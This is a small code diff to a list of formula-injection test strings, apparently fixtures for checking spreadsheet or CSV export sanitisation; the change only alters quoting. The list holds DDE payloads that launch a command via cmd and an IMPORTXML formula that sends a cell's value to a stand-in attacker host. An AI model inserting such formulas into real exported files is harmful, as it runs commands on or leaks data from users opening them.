@@ -22,7 +22,7 @@ FORMULAS = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "+2+3+cmd|' /C calc'!A0",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
     "-@SUM(1)",
     "\t=1+1",
     "\r=1+1",
